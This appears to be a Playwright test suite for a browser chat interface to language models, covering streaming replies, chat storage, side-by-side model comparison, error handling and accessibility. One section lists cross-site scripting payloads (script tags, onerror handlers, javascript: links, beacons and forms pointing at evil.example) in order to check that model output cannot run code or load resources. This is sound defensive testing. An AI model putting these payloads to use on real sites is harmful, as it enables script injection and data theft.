"""The chat page in a real browser on the real server: what a visitor does, and what a hostile model tries."""

import json
import re
import time

import pytest

from nanolab.data.chat_files import read_conversations


def messages(visit) -> list[str]:
    return visit.find(".message .text, .message .parts").all_inner_texts()


# ---- One chat ----


@pytest.mark.slow
def test_a_tiny_model_answers_and_its_tool_call_is_a_step_that_unfolds(visit):
    v = visit()
    v.find("#model").select_option("parrot")
    v.find("#temperature").fill("0")
    v.ask("12*34?")
    step = v.find(".assistant details")
    assert step.locator("summary").inner_text() == "calculator: 12*34 → 408"
    assert v.find(".assistant .prose").inner_text() == "It is 408."
    assert not step.locator("pre").first.is_visible()
    step.locator("summary").click()
    assert step.locator("pre").all_inner_texts() == ["12*34", "408"]
    assert re.match(r"\d+ of 128", v.find("#context").inner_text())
    assert float(v.find("#rate").inner_text().split()[0]) > 0 and float(v.find("#first").inner_text().split()[0]) > 0


def test_a_reply_grows_and_stops_where_it_is(visit, site):
    v, ada = visit(), site.engines["ada"]
    cancelled = ada.cancelled
    v.send("count")
    v.find("#send:text-is('Stop')").wait_for()
    v.find(".assistant .prose:has-text('word9')").wait_for()
    v.find("#input").fill("typed meanwhile")
    v.find("#send").click()
    v.wait()
    text = v.find(".assistant .prose").inner_text()
    assert "word9" in text and "word199" not in text and "stopped" in v.find(".assistant .meta").inner_text()
    deadline = time.time() + 60
    while ada.cancelled == cancelled and time.time() < deadline:
        time.sleep(0.01)
    assert ada.cancelled == cancelled + 1  # the server has noticed
    assert v.find(".assistant .prose").inner_text() == text and v.find("#input").input_value() == "typed meanwhile"
    v.page.reload()
    assert v.find(".assistant .prose").inner_text() == text
    assert v.find("#input").input_value() == "typed meanwhile"


def test_a_step_stays_unfolded_and_a_reload_keeps_what_came(visit, site, script, monkeypatch):
    monkeypatch.setitem(script, "work", "<<1+1>>" + script["count"])
    v = visit()
    monkeypatch.setattr(site.engines["ada"], "burst", 6)
    v.send("work")
    v.find("summary").click()
    v.find(".assistant .prose:has-text('word9')").wait_for()
    v.page.keyboard.press("Escape")
    v.wait()
    assert v.find(".step pre").first.is_visible()
    v.find("button:text-is('Regenerate')").click()
    v.find(".assistant .prose:has-text('word9')").wait_for()
    v.page.reload()
    assert "word9" in messages(v)[1] and "stopped" in v.find(".meta").inner_text()


def test_another_chat_is_opened_while_a_reply_comes(visit):
    v = visit()
    v.send("count")
    v.find(".assistant .prose:has-text('word9')").wait_for()
    v.page.keyboard.press("Control+Shift+O")
    assert messages(v) == []
    assert v.ask("hello") == "ada heard: hello"
    v.find("#list .open:text-is('count')").click()
    assert "word9" in messages(v)[1] and "word199" not in messages(v)[1] and len(messages(v)) == 2


@pytest.mark.slow
def test_the_view_follows_only_from_the_end(visit):
    v = visit(height=500)
    v.send("count")
    v.find(".assistant .prose:has-text('word60')").wait_for()
    gap = "const box = document.querySelector('.messages'); box.scrollHeight - box.scrollTop - box.clientHeight"
    assert v.page.evaluate(gap) < 48
    height = "(() => { const box = document.querySelector('.messages'); return box.scrollHeight - box.clientHeight })()"
    # So that the top is not the end. wait_for_function would poll by eval, which the page's own policy forbids.
    while v.page.evaluate(height) <= 100:
        time.sleep(0.01)
    v.page.evaluate("document.querySelector('.messages').scrollTop = 0")
    v.find(".assistant .prose:has-text('word120')").wait_for()
    assert v.page.evaluate("document.querySelector('.messages').scrollTop") == 0
    v.page.keyboard.press("Escape")


def test_a_reply_is_generated_again_with_another_seed(visit):
    v = visit()
    v.ask("hello")
    v.find("button:text-is('Regenerate')").click()
    v.wait()
    assert messages(v) == ["hello", "ada heard: hello"]
    first, second = v.bodies()
    assert (
        first["messages"] == second["messages"] == [{"role": "user", "content": "hello"}]
        and first["seed"] != second["seed"]
    )


def test_a_message_is_edited_and_the_chat_goes_on_from_there(visit):
    v = visit()
    for text in ("one", "two", "three"):
        v.ask(text)
    v.find(".user").nth(1).hover()
    v.find(".user").nth(1).locator("button:text-is('Edit')").click()
    field = v.find("[aria-label='Edit message']")
    assert field.input_value() == "two"
    field.press("Escape")
    assert len(messages(v)) == 6
    v.find(".user").nth(1).locator("button:text-is('Edit')").click()
    field.fill("four")
    field.press("Enter")
    v.find(".assistant .parts:has-text('four')").wait_for()
    v.wait()
    assert messages(v) == ["one", "ada heard: one", "four", "ada heard: four"]
    assert [m["content"] for m in v.bodies()[-1]["messages"]] == ["one", "ada heard: one", "four"]


def test_enter_sends_shift_enter_breaks_and_the_box_grows(visit):
    v = visit()
    box = v.find("#input")
    box.fill("a")
    low = box.bounding_box()["height"]
    box.press("Shift+Enter")
    box.type("b")
    assert box.input_value() == "a\nb" and box.bounding_box()["height"] > low
    box.press("Enter")
    v.wait()
    assert messages(v)[0] == "a\nb" and box.input_value() == "" and box.bounding_box()["height"] == low


def test_settings_go_with_the_request_and_can_be_reset(visit):
    v = visit()
    v.ask("default")
    for name, value in {
        "temperature": "0.3",
        "top_p": "0.9",
        "top_k": "7",
        "max_tokens": "5",
        "repetition_penalty": "1.2",
        "seed": "11",
        "system": "Be brief.",
    }.items():
        v.find(f"#{name}").fill(value)
    v.ask("chosen")
    v.page.reload()
    v.ask("kept")
    v.find("#reset").click()
    v.ask("again")
    default, chosen, kept, again = v.bodies()
    names = ("temperature", "top_p", "top_k", "max_tokens", "repetition_penalty")
    assert [default[name] for name in names] == [again[name] for name in names] == [0.8, 1, 50, 2000, 1]
    for body in (chosen, kept):
        assert [body[name] for name in names] == [0.3, 0.9, 7, 5, 1.2] and body["seed"] == 11
        assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert again["messages"][0]["role"] == "user" and "cut at max tokens" in "".join(v.find(".meta").all_inner_texts())


def test_a_base_model_is_marked_and_continues_text(visit, site):
    v = visit()
    assert "root · base · 4000 tokens" in v.find("#model option").all_inner_texts()
    v.find("#model").select_option("root")
    assert "continues" in v.find("#kind").inner_text() and "The capital of France is" in v.find("#welcome").inner_text()
    v.ask("Once")
    v.ask("upon")
    assert [body["prompt"] for body in v.bodies()] == ["Once", f"Once {messages(v)[1]} upon"]


def test_chats_are_kept_renamed_deleted_and_brought_back(visit):
    v = visit()
    v.ask("first chat")
    v.page.keyboard.press("Control+Shift+O")
    v.ask("second chat")
    titles = v.find("#list .open")
    assert titles.all_inner_texts() == ["second chat", "first chat"]
    v.page.reload()
    assert messages(v) == ["second chat", "ada heard: second chat"]
    titles.nth(1).click()
    assert messages(v)[0] == "first chat"
    v.find("[aria-label='Rename first chat']").click()
    v.find("[aria-label='Title']").fill("other name")
    v.find("[aria-label='Title']").press("Enter")
    assert titles.all_inner_texts() == ["second chat", "other name"]
    titles.nth(0).hover()
    v.find("[aria-label='Delete second chat']").click()
    assert titles.all_inner_texts() == ["other name"]
    v.find("button:text-is('Undo')").click()
    assert len(titles.all()) == 2 and messages(v)[0] == "second chat"


@pytest.mark.slow
def test_two_tabs_do_not_overwrite_each_others_chats(visit):
    v = visit()
    v.ask("tab one")
    other = v.context.new_page()
    other.goto(v.page.url)
    other.locator("#input").fill("tab two")
    other.locator("#input").press("Enter")
    v.find("#list .open:text-is('tab two')").wait_for()
    v.ask("tab one again")
    other.reload()
    other.locator("#list .open:text-is('tab one')").wait_for()
    assert len(other.locator("#list .open").all()) == 2


def test_an_export_is_what_training_reads_and_can_be_imported(visit, tmp_path):
    v = visit()
    v.find("#system").fill("Be exact.")
    v.ask("sum")
    with v.page.expect_download() as download:
        v.find("#export").click()
    download.value.save_as(tmp_path / "chat.jsonl")
    parts = [
        {"type": "text", "text": "I will calculate. "},
        {"type": "python", "text": "37+58"},
        {"type": "python_output", "text": "95"},
        {"type": "text", "text": "The sum is **95**."},
    ]
    chat = [
        {"role": "system", "content": "Be exact."},
        {"role": "user", "content": "sum"},
        {"role": "assistant", "content": parts},
    ]
    assert read_conversations(tmp_path / "chat.jsonl") == [chat]
    shown = messages(v)
    other = visit()
    other.find("#file").set_input_files(tmp_path / "chat.jsonl")
    other.find("#list .open:text-is('sum')").wait_for()
    assert messages(other) == shown and other.find("#system").input_value() == "Be exact."
    (tmp_path / "bad.jsonl").write_text('[{"role": "user", "content": "a"}]\n[{"role": "assistant", "content": "b"}]\n')
    other.find("#file").set_input_files(tmp_path / "bad.jsonl")
    other.find("#notice:has-text('line 2')").wait_for()
    assert len(other.find("#list .open").all()) == 1


def chat(i, **other):
    """A chat as the page stores it."""
    said = [
        {"role": "user", "content": f"question {i}"},
        {"role": "assistant", "parts": [{"type": "text", "text": f"answer {i}"}]},
    ]
    return {"id": f"id{i}", "title": f"title {i}", "updated": i, "system": "", "messages": said} | other


def put(v, entries, where="localStorage"):
    """Write {key: text} into the browser, then load the page again."""
    v.page.evaluate(
        f"(all) => {{ for (const [key, text] of Object.entries(all)) {where}.setItem(key, text); }}", entries
    )
    v.page.reload()
    v.find("#model option").first.wait_for(state="attached")


def stored(v, where="localStorage"):
    return v.page.evaluate(f"Object.fromEntries(Object.keys({where}).map((key) => [key, {where}.getItem(key)]))")


FILL = (
    "for (let size = 2 ** 22; size >= 1; size /= 2) try { localStorage.setItem(`filler${size}`, 'x'.repeat(size)); }"
    " catch {}"
)
CHATS = {f"nanolab:chat:id{i}": json.dumps(chat(i)) for i in range(210)}


def conversations(n, text="imported"):
    return "".join(
        json.dumps([{"role": "user", "content": f"{text} {i}"}, {"role": "assistant", "content": "yes"}]) + "\n"
        for i in range(n)
    )


@pytest.mark.fault("outer D13")
def test_neither_a_new_chat_nor_an_import_deletes_one(visit, tmp_path):
    v = visit()
    put(v, CHATS)
    v.ask("one more")
    (tmp_path / "chats.jsonl").write_text(conversations(250))
    v.find("#file").set_input_files(tmp_path / "chats.jsonl")
    v.find("#list .open:text-is('imported 249')").wait_for()
    kept = stored(v)
    assert {key: kept.get(key) for key in CHATS} == CHATS
    assert sum(key.startswith("nanolab:chat:") for key in kept) == v.find("#list .open").count() == len(CHATS) + 1 + 250


@pytest.mark.fault("outer D13")
def test_an_import_that_does_not_fit_changes_nothing(visit, tmp_path):
    v = visit()
    put(v, CHATS)
    v.page.evaluate(FILL)
    v.page.evaluate("localStorage.removeItem('filler16384')")
    before, titles = stored(v), v.find("#list .open").all_inner_texts()
    (tmp_path / "chats.jsonl").write_text(conversations(100, "long " * 100))
    v.find("#file").set_input_files(tmp_path / "chats.jsonl")
    v.find("#notice:has-text('100 chats of chats.jsonl')").wait_for()
    assert stored(v) == before and v.find("#list .open").all_inner_texts() == titles


@pytest.mark.slow
@pytest.mark.fault("outer D13")
def test_where_the_storage_is_full_the_chat_on_the_screen_goes_on_and_can_be_exported(visit, tmp_path):
    v, asked = visit(), []
    put(v, CHATS)
    v.find("#list .open:text-is('title 209')").click()
    v.page.evaluate(FILL)
    before = stored(v)
    v.ask("hello")
    assert "storage is full" in v.find("#notice").inner_text() and messages(v)[-1] == "ada heard: hello"
    v.page.keyboard.press("Control+Shift+O")
    other = v.context.new_page()
    other.goto(v.page.url)
    other.locator("#list .open:text-is('title 5')").hover()
    other.locator("[aria-label='Rename title 5']").click()
    other.locator("[aria-label='Title']").fill("name 5")  # as long as before; this tab reads the chats again
    other.locator("[aria-label='Title']").press("Enter")
    v.find("#list .open:text-is('name 5')").wait_for()
    v.find("#list .open:text-is('title 209')").click()
    assert messages(v)[-1] == "ada heard: hello", "kept by this tab"
    with v.page.expect_download() as download:
        v.find("#export").click()
    download.value.save_as(tmp_path / "chat.jsonl")
    assert [message["content"] for message in read_conversations(tmp_path / "chat.jsonl")[0]] == [
        "question 209",
        "answer 209",
        "hello",
        "ada heard: hello",
    ]
    after = stored(v)
    assert {key for key in before if after.get(key) != before[key]} == {"nanolab:chat:id5"}
    v.page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
    v.page.reload()
    assert asked == ["beforeunload"], "the browser asks before what is not stored is lost"


@pytest.mark.fault("outer D13")
def test_room_that_a_deleted_chat_leaves_is_used(visit):
    v = visit()
    put(v, CHATS | {"nanolab:chat:big": json.dumps(chat(0, id="big", title="big", system="x" * 5000))})
    v.page.evaluate(FILL)
    v.ask("hello")
    assert not any("ada heard" in text for text in stored(v).values())
    v.find("#list .open:text-is('big')").hover()
    v.find("[aria-label='Delete big']").click()
    assert any("ada heard" in text for text in stored(v).values())


@pytest.mark.fault("outer D13")
def test_a_chat_that_goes_on_in_another_tab_goes_on_here(visit):
    """What the other tab wrote was lost with the next message here."""
    v = visit()
    put(v, {"nanolab:chat:id1": CHATS["nanolab:chat:id1"]})
    v.find("#list .open").click()
    other = v.context.new_page()
    other.goto(v.page.url)
    other.locator("#list .open").click()
    other.locator("#input").fill("there")
    other.locator("#input").press("Enter")
    v.find(".parts:has-text('ada heard: there')").wait_for()
    v.ask("here")
    assert messages(v) == ["question 1", "answer 1", "there", "ada heard: there", "here", "ada heard: here"]


DAMAGED = [
    "",
    "{",
    "null",
    "3",
    "[]",
    "{}",
    '"text"',
    json.dumps({"id": "other"}),
    *(
        json.dumps(chat(0, **wrong))
        for wrong in (
            {"messages": None},
            {"messages": {}},
            {"messages": [None]},
            {"messages": [{"role": "user"}]},
            {"messages": chat(0)["messages"][1:]},
            {"messages": chat(0)["messages"][:1] * 2},
            {"messages": [chat(0)["messages"][0], {"role": "assistant"}]},
            {"title": None},
            {"updated": "now"},
            {"system": 4},
            {"messages": [chat(0)["messages"][0], {"role": "assistant", "parts": [{"type": "text"}]}]},
            {"messages": [chat(0)["messages"][0], {"role": "assistant", "parts": [], "stats": {"rate": "fast"}}]},
        )
    ),
]


@pytest.mark.fault("outer D14")
def test_damaged_chats_stay_as_they_are_and_the_others_work(visit):
    v = visit()
    wrong = {f"nanolab:chat:bad{i}": text.replace('"id0"', f'"bad{i}"') for i, text in enumerate(DAMAGED)}
    put(v, wrong | {"nanolab:chat:id1": CHATS["nanolab:chat:id1"]})
    assert v.find("#notice").inner_text().startswith(f"{len(wrong)} entries")
    assert v.find("#list .open").all_inner_texts() == ["title 1"]
    v.find("#list .open").click()
    assert v.ask("hello") == "ada heard: hello"
    v.page.reload()
    assert messages(v)[0] == "question 1" and v.find("#notice").inner_text() == "", "told once"
    kept = stored(v)
    assert {key: kept.get(key) for key in wrong} == wrong


OTHERS = {"localStorage": ["settings", "compare", "told"], "sessionStorage": ["open", "draft", "key"]}
NOWHERE = [
    "",
    "{",
    "null",
    "3",
    "[3]",
    '{"chat": 3, "left": 3}',
    '{"chat": {"temperature": "hot"}, "left": [{"role": "user"}]}',
    '{"chat": {"system": 5}, "left": {}}',
]


@pytest.mark.slow
@pytest.mark.fault("outer D14")
@pytest.mark.parametrize("path", ["/", "/compare"])
@pytest.mark.parametrize("where", OTHERS)
def test_damaged_entries_of_any_other_name_leave_a_page_that_works(visit, path, where):
    v = visit(path)
    for text in NOWHERE:
        put(v, {f"nanolab:{name}": text for name in OTHERS[where]}, where)
        v.find("#input").fill("")
        assert v.ask("hello").endswith("heard: hello"), text
        kept = stored(v, where)
        for name in OTHERS[where]:
            beside = [kept[key] for key in kept if key.startswith(f"nanolab:damaged:{name}:")]
            assert kept[f"nanolab:{name}"] == text or text in beside, (name, text)
        v.page.evaluate("localStorage.clear(); sessionStorage.clear()")
    put(v, {"nanolab:open": '"constructor"'}, "sessionStorage")
    assert v.ask("hello").endswith("heard: hello")


# Chromium and Firefox; some; Safari
COMPOSING = [
    {"isComposing": True, "keyCode": 229},
    {"isComposing": True, "keyCode": 13},
    {"isComposing": False, "keyCode": 229},
]


@pytest.mark.slow
@pytest.mark.fault("S17")
@pytest.mark.parametrize("place", ["send", "edit", "rename", "key"])
def test_enter_that_accepts_what_an_input_method_proposes_does_nothing_else(visit, locked_site, place):
    v = visit(url=locked_site.url if place == "key" else "")
    if place == "key":
        v.find("[aria-label='API key']").wait_for()
        v.troubles.clear()  # the refusal
        field = v.find("[aria-label='API key']")
    elif place == "send":
        v.find("#model option").first.wait_for(state="attached")
        field = v.find("#input")
    else:
        v.ask("first")
        if place == "edit":
            v.find(".user").hover()
            v.find("button:text-is('Edit')").click()
        else:
            v.find("#list .open").hover()
            v.find("[aria-label='Rename first']").click()
        field = v.find(f"[aria-label='{dict(edit='Edit message', rename='Title')[place]}']")
    field.fill("open sesame")
    asked, before = len(v.requests), stored(v)
    for options in COMPOSING:
        for key in ("Enter", "Escape"):
            field.dispatch_event("keydown", {"key": key, "bubbles": True, "cancelable": True, **options})
    v.page.wait_for_timeout(100)
    assert (
        field.is_visible() and field.input_value() == "open sesame" and len(v.requests) == asked and stored(v) == before
    )
    field.press("Enter")
    if place == "rename":
        assert v.find("#list .open").all_inner_texts() == ["open sesame"]
    elif place == "key":
        v.find("#model option").first.wait_for(state="attached")
    else:
        v.wait()
        assert messages(v) == ["open sesame", "ada heard: open sesame"]


@pytest.mark.slow
def test_copy(visit):
    v = visit(permissions=["clipboard-read", "clipboard-write"])
    v.ask("a **b**")
    v.find(".assistant button:text-is('Copy')").click()
    v.find(".assistant button:text-is('Copied')").wait_for()
    assert v.page.evaluate("navigator.clipboard.readText()") == "ada heard: a **b**"


# ---- What the server refuses ----

REFUSALS = {
    "busy": (429, {"message": "the queue is full"}, "busy"),
    "broken": (500, {"message": "generation has failed"}, "failed"),
    "refused": (400, {"message": "top_k is -1"}, "top_k is -1"),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", REFUSALS)
def test_an_error_is_told_in_words_and_nothing_typed_is_lost(visit, name):
    status, error, words = REFUSALS[name]
    v = visit()
    v.ask("before")
    v.page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(status=status, json={"error": error}, headers={"Retry-After": "3"}),
    )
    v.send("my question")
    v.find(f"#notice:has-text('{words}')").wait_for()
    assert v.find("#input").input_value() == "my question" and len(messages(v)) == 2
    v.page.unroute("**/v1/chat/completions")
    v.find("#notice button:text-is('Try again')").click()
    v.find(".assistant .parts:has-text('my question')").wait_for()
    assert v.find("#notice").inner_text() == "" and v.find("#input").input_value() == ""
    assert v.troubles and all(str(status) in trouble for trouble in v.troubles)
    v.troubles.clear()


def test_a_server_that_is_gone(visit):
    v = visit()
    v.find("#model option").first.wait_for(state="attached")
    v.page.evaluate("models = []")  # as before the list has come
    v.ask("before")
    v.page.route("**/v1/*/*", lambda route: route.abort())
    v.find("button:text-is('Regenerate')").click()
    v.find("#notice:has-text('does not answer')").wait_for()
    assert messages(v) == ["before", "ada heard: before"]
    v.find("#notice button:text-is('Dismiss')").click()
    v.send("my question")
    v.find("#notice:has-text('does not answer')").wait_for()
    assert v.find("#input").input_value() == "my question" and len(messages(v)) == 2
    v.troubles.clear()


def test_a_reply_that_breaks_off_keeps_what_came(visit):
    v = visit()
    body = 'data: {"choices": [{"delta": {"content": "the beginn"}}]}\n\n'
    v.page.route("**/v1/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    v.send("hello")
    v.find("#notice:has-text('broke off')").wait_for()
    assert messages(v) == ["hello", "the beginn"] and "broken off" in v.find(".meta").inner_text()


def test_more_than_the_model_reads(visit):
    v = visit()
    v.find("#model").select_option("parrot")
    v.send("far too long for it " * 20)
    v.find("#notice:has-text('no longer fits')").wait_for()
    assert v.find("#input").input_value().startswith("far too long")
    v.troubles.clear()


def test_a_server_with_a_key(visit, locked_site):
    v = visit(url=locked_site.url)
    field = v.find("[aria-label='API key']")
    field.fill("wrong")
    field.press("Enter")
    v.find("#notice:has-text('does not take')").wait_for()
    field.fill("open sesame")
    field.press("Enter")
    v.find("#welcome h1:text-is('ada')").wait_for()
    assert v.ask("hello") == "ada heard: hello"
    v.page.reload()
    assert v.ask("again") == "ada heard: again"
    assert "sesame" not in v.page.evaluate("JSON.stringify(localStorage)")
    v.troubles.clear()


# ---- Two models side by side ----


def test_compare_asks_both_with_one_seed(visit):
    v = visit("/compare")
    v.ask("sum")
    assert v.find(".thread h2").all_inner_texts() == ["ada", "bert"]
    assert v.find(".step summary").all_inner_texts() == ["calculator: 37+58 → 95"] * 2
    left, right = (v.find(".assistant").nth(i).bounding_box() for i in range(2))
    assert left["x"] + left["width"] <= right["x"] and abs(left["y"] - right["y"]) < 2
    v.find("#same").uncheck()
    v.find("#sides label:has-text('Right')").click()
    v.find("#model").select_option("ada")
    v.find("#temperature").fill("0")
    v.ask("hello")
    one, two, three, four = v.bodies()
    assert {one["model"], two["model"]} == {"ada", "bert"} and one["seed"] == two["seed"]
    assert (
        three["model"] == four["model"] == "ada"
        and three["seed"] != four["seed"]
        and {three["temperature"], four["temperature"]} == {0.8, 0}
    )
    shown = messages(v)
    v.page.reload()
    assert messages(v) == shown and len(shown) == 8
    v.find("#clear").click()
    assert v.find("#welcome").is_visible()


def test_compare_stops_both(visit):
    v = visit("/compare")
    v.send("count")
    for i in range(2):
        v.find(".thread").nth(i).locator(".prose:has-text('word9')").wait_for()
    v.page.keyboard.press("Escape")
    v.wait()
    texts = v.find(".assistant .prose").all_inner_texts()
    assert len(texts) == 2 and not any("word199" in text for text in texts)


@pytest.mark.slow
def test_compare_when_one_side_fails(visit):
    v = visit("/compare")
    v.page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(status=429, json={}) if '"bert"' in route.request.post_data else route.continue_(),
    )
    v.send("hello")
    v.find("#notice:has-text('busy')").wait_for()
    assert messages(v) == ["hello", "ada heard: hello", "hello"]
    v.page.unroute("**/v1/chat/completions")
    v.find("#notice button:text-is('Try again')").click()
    v.find(".assistant .parts:has-text('bert heard: hello')").wait_for()
    v.troubles.clear()


# ---- A hostile model ----

CANARY = "window.canary=1"
HOSTILE = [
    f"<script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg onload={CANARY}><svg/onload={CANARY}>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f"[click](javascript:{CANARY})",
    f"[click](JaVaScRiPt:{CANARY}) [b](java\tscript:{CANARY}) [c](&#106;avascript:{CANARY})",
    f"[d](data:text/html,<script>{CANARY}</script>)",
    f'![x](x" onerror="{CANARY}) ![y](https://example.org/x.png"onerror="{CANARY})',
    f'[q](https://example.org/"onmouseover="{CANARY}) [r](https://example.org \'a" onclick="{CANARY}\')',
    f"```html\n</code></pre><script>{CANARY}</script><img src=x onerror={CANARY}>\n```",
    f'```"><script>{CANARY}</script>\ncode\n```',
    f"`</code><script>{CANARY}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={CANARY}> |",
    f"# <script>{CANARY}</script>",
    "> <style>*{display:none}</style><base href=//evil.example><meta http-equiv=refresh content=0;url=/>",
    (
        "![pixel](https://evil.example/pixel.png) ![p](//evil.example/p.png) <link rel=stylesheet"
        " href=https://evil.example/a.css>"
    ),
    f"<a href='javascript:{CANARY}'>x</a><form action=//evil.example><input name=key>",
    "```js\nnever closed " + "<script>" * 20,
    "x" * 9000,
    "<b>" * 500,
    "\u202edetrever\u202c \u200bzero\u200dwidth\u2060 \ufeff\x00\x07\x1b[31m",
    "`\u202ecode`",
    "</script></style></textarea></title>" + f"<script>{CANARY}</script>",
    f"<<');{CANARY}//>>",
    f'<<"<img src=x onerror={CANARY}>".count("r")>>',
    "{{constructor.constructor('" + CANARY + "')()}} ${" + CANARY + "}",
    "- " * 200 + "x",
    "[" * 500 + "](",
    "__proto__ constructor **__proto__**",
]
BAD = """() => {
  const allowed = ["DIV", "P", "SPAN", "CODE", "PRE", "BUTTON", "A", "BDI", "SMALL", "STRONG", "EM", "DEL", "UL", "OL",
    "LI", "HR", "BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "H3", "H4", "H5", "H6", "DETAILS", "SUMMARY",
    "DL", "DT", "DD"];
  const found = [...document.querySelectorAll(".message *")].filter((e) => !allowed.includes(e.tagName)
    || [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style" || a.name === "src")
    || (e.tagName === "A" && !["http:", "https:", "mailto:"].includes(e.protocol)));
  return [window.canary, document.documentElement.scrollWidth > innerWidth,
    found.map((e) => e.outerHTML.slice(0, 200))];
}"""


@pytest.mark.slow
def test_nothing_that_a_model_writes_runs_loads_or_breaks_the_page(visit, site, script, monkeypatch):
    replies = {f"hostile {i}": text for i, text in enumerate(HOSTILE)}
    for asked, text in replies.items():
        monkeypatch.setitem(script, asked, text)
    monkeypatch.setattr(site.engines["ada"], "pause", 0)
    v = visit()
    v.find("#max_tokens").fill("100000")
    for asked, text in replies.items():
        v.ask(asked)
        canary, too_wide, elements = v.page.evaluate(BAD)
        assert not canary and not too_wide and not elements, text
        v.find("#new").click()
    assert {re.sub(r"^(http://[^/]+).*", r"\1", request.url) for request in v.requests} == {site.url}
    v.page.reload()
    for title in v.find("#list .open").all()[::4]:  # and from the storage
        title.click()
        assert v.page.evaluate(BAD) == [None, False, []]
    text = "".join(
        message["parts"][0]["text"]
        for message in v.page.evaluate("Object.values(chats).map((chat) => chat.messages[1])")
        if message["parts"][0]["type"] == "text"
    )
    assert all(reply in text for reply in HOSTILE if "<<" not in reply)  # nothing was swallowed on the way


@pytest.mark.slow
def test_what_a_visitor_types_is_text_too(visit):
    v = visit()
    v.ask(f"<img src=x onerror={CANARY}><script>{CANARY}</script>")
    v.find("#system").fill(f"</textarea><script>{CANARY}</script>")
    v.page.reload()
    assert v.page.evaluate(BAD) == [None, False, []] and "<img" in v.find("#list .open").inner_text()


# ---- Everybody can use it ----

CONTRAST = """() => {
  const parse = (text) => { const [r, g, b, a = 1] = text.match(/[\\d.]+/g).map(Number); return [r, g, b, a]; };
  const linear = (c) => c / 255 <= 0.03928 ? c / 255 / 12.92 : ((c / 255 + 0.055) / 1.055) ** 2.4;
  const light = (rgb) => rgb.map(linear).reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = (e) => {
    for (; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour[3] > 0) return colour;
    }
  };
  const out = {};
  for (const e of document.querySelectorAll("body *")) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.placeholder;
    if (!own || !e.checkVisibility({ opacityProperty: true })) continue;
    const style = e.placeholder && !e.value ? getComputedStyle(e, "::placeholder") : getComputedStyle(e);
    const [a, b] = [light(parse(style.color)), light(behind(e))].sort((x, y) => y - x);
    out[`${e.tagName} ${e.className} ${(e.placeholder || e.textContent).slice(0, 20)}`] = (a + 0.05) / (b + 0.05);
  }
  return out;
}"""


@pytest.mark.slow
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_contrast(visit, scheme):
    v = visit(color_scheme=scheme)
    found = v.page.evaluate(CONTRAST)
    v.ask("# t\n[a](https://example.org) `b`\n> c\n\n```js\nd\n```\n| e |\n|---|\n| f |")
    v.ask("sum")
    v.page.route("**/v1/chat/completions", lambda route: route.fulfill(status=429, json={}))
    v.send("x")
    v.find("#notice button").first.wait_for()
    v.troubles.clear()
    found |= v.page.evaluate(CONTRAST)
    assert len(found) > 50 and {name: round(ratio, 2) for name, ratio in found.items() if ratio < 4.5} == {}
    dark = v.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 24, 26)"
    assert dark == (scheme == "dark")


@pytest.mark.slow
def test_the_theme_is_switched_and_kept(visit):
    v = visit(color_scheme="light")
    colours = []
    for _ in range(3):
        colours.append(v.page.evaluate("getComputedStyle(document.body).backgroundColor"))
        v.find("#theme").click()
        v.page.reload()
    assert colours[0] == colours[1] != colours[2]  # auto, light, dark


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/", "/compare"])
def test_a_phone_has_everything_and_no_sideways_scrolling(visit, path):
    v = visit(path, 360, 740, has_touch=True)
    narrow = (
        "document.documentElement.scrollWidth <= 360 && [...document.querySelectorAll('main *, header *')].every((e) =>"
        " !e.checkVisibility() || e.closest('pre, .table, summary, .head, .unseen') || e.getBoundingClientRect().right"
        " <= 361)"
    )
    assert v.page.evaluate(narrow)
    v.ask(
        "x" * 200
        + " https://example.org/"
        + "y" * 200
        + "\n\n```\n"
        + "z" * 200
        + "\n```\n\n|"
        + "a|" * 60
        + "\n|"
        + "-|" * 60
    )
    v.ask("sum")
    assert v.page.evaluate(narrow)
    if path == "/compare":
        first, second = (v.find(".thread").nth(i).bounding_box() for i in range(2))
        assert first["y"] + first["height"] <= second["y"] and first["x"] == second["x"]
    assert not v.find("#panel").is_visible()
    v.find("#panel-toggle").click()
    v.find("#temperature").fill("0.5")
    v.page.keyboard.press("Escape")
    assert not v.find("#panel").is_visible()
    v.ask("hello")
    assert v.bodies()[-1]["temperature"] in (0.5, 0.8)


@pytest.mark.slow
def test_between_phone_and_desktop_the_settings_lie_over_the_chat(visit):
    v = visit(width=950)
    assert v.find("#chats").is_visible() and not v.find("#panel").is_visible()
    v.find("#panel-toggle").click()
    inert = "document.querySelector('#main').inert"
    assert v.find("#panel").is_visible() and v.page.evaluate(inert)
    v.find("#chats-toggle").click()
    assert not v.find("#chats").is_visible() and v.page.evaluate(inert)
    v.page.keyboard.press("Escape")
    assert not v.find("#panel").is_visible() and not v.page.evaluate(inert)
    v.page.set_viewport_size({"width": 1280, "height": 800})
    v.find("#chats").wait_for()
    assert v.find("#panel").is_visible()


def test_without_a_mouse(visit):
    v = visit()
    v.find("#welcome li button:enabled").first.wait_for()
    focused = (
        "(() => { const e = document.activeElement; return [e.ariaLabel || e.labels?.[0]?.textContent ||"
        " e.textContent.trim() || e.title, getComputedStyle(e).outlineStyle !== 'none' || e.id === 'input', e.id ||"
        " e.tagName]; })()"
    )
    skip = v.find("a:text-is('Skip to the message box')")
    skip.focus()
    assert skip.bounding_box()["width"] > 50
    seen = []
    for _ in range(40):
        v.page.keyboard.press("Tab")
        name, ring, where = v.page.evaluate(focused)
        if where == "BODY":
            break
        assert name and ring, where
        seen.append(where)
    order = [
        "chats-toggle",
        "to-chat",
        "to-compare",
        "theme",
        "panel-toggle",
        "new",
        "export",
        "input",
        "send",
        "model",
        "system",
